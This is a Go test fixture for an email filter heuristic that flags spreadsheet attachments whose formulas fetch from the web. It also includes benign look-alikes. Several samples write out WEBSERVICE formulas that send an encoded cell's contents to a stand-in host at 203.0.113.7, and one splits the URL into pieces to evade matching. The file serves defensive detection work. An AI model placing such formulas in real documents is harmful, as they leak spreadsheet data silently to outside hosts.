package heuristic

import (
	"github.com/kensa-milter/kensa/message"
)

// formulaFetchCases: WEBSERVICE and IMAGE formulas in the places each
// spreadsheet format keeps them, and the honest ones.
func formulaFetchCases() map[string][]sample {
	const sheet = "2/book.xlsx/xl/worksheets/sheet1.xml"
	xlsx := func(from, f string) *message.Message {
		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>`+f+`</f><v>ok</v></c><c r="B1" t="s"><v>0</v></c></row></sheetData></worksheet>`)))
	}
	const other = "office@smith-plumbing.test"
	ods := sentBy(other, msg(part("2", zipBytes, named("book.ods"), container()),
		text("2/book.ods/content.xml", `<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:table><table:table-row>`+
			`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))" office:value-type="string"><text:p>ok</text:p></table:table-cell>`+
			`</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`)))
	names := sentBy(other, msg(part("2", zipBytes, named("book.xlsx"), container()),
		text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x"><definedNames><definedName name="feed">_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml"),"//title")</definedName></definedNames></workbook>`)))
	xls := sentBy(other, msg(part("2", zipBytes, named("book.xls"), container()),
		text("2/book.xls/web-formulas", "Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n")))
	return map[string][]sample{"formula-web-fetch": {
		{"WEBSERVICE sending a cell out (.xlsx)", xlsx(other, `_xlfn.WEBSERVICE("http://203.0.113.7/x?"&amp;_xlfn.ENCODEURL(B1))`), sheet},
		{"FILTERXML of WEBSERVICE (.xlsx)", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;),"//title")`), sheet},
		{"the address in pieces", xlsx(other, `_xlfn.WEBSERVICE("ht"&amp;"tp://"&amp;"files.example.net/p")`), sheet},
		{"IMAGE from the web (Excel 365)", xlsx(other, `_xlfn.IMAGE("https://img.example.net/t.png?u=kenji")`), sheet},
		{"a defined name", names, "2/book.xlsx/xl/workbook.xml"},
		{"an OpenDocument spreadsheet", ods, "2/book.ods/content.xml"},
		{"an .xls's decompiled formulas", xls, "2/book.xls/web-formulas"},
		{"WEBSERVICE to the sender's own API", xlsx("finance@acme-corp.example", `_xlfn.WEBSERVICE("https://api.acme-corp.example/rates?d="&amp;TEXT(TODAY(),"yyyy-mm-dd"))`), ""},
		{"WEBSERVICE to a well-known company's API", xlsx(other, `_xlfn.WEBSERVICE("https://query1.finance.yahoo.com/v7/finance/quote?symbols=MSFT")`), ""},
		{"WEBSERVICE to the ECB's rates", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml"),"//Cube")`), ""},
		{"WEBSERVICE of a cell", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
		{"another function named like one", xlsx(other, `GETIMAGE("https://img.example.net/t.png")`), ""},
		{"HYPERLINK to a share needs a click", xlsx(other, `HYPERLINK("\\203.0.113.7\share\a.xlsx","budget")`), ""},
	}}
}
